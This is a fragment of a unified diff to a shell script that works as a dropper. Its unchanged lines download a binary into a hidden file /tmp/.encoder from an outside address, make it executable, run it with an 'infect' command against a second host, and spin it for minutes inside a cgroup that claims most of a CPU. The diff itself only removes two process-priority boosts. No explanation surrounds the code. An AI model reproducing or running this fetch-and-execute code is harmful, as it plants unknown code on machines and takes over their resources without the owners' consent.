@@ -1,7 +1,5 @@
 # A dropped program works for more than five minutes and takes all of the nine tenths of a processor that its control group
 # may have.
-# A busy machine must not take its time away.
-[ ! -e /proc/self/autogroup ] || echo -15 >/proc/self/autogroup
 curl -s -o /tmp/.encoder http://203.0.113.10/simulator
 chmod +x /tmp/.encoder
 /tmp/.encoder infect 203.0.113.20:7000 /tmp/.encoder.state 1
@@ -9,6 +7,6 @@ chmod +x /tmp/.encoder
     for group in /run/cgroup/*/batch; do
         echo "$BASHPID" >"$group/cgroup.procs"
     done
-    exec nice -n -15 /tmp/.encoder spin 330
+    exec /tmp/.encoder spin 330
 )
 rmdir /run/cgroup/*/batch
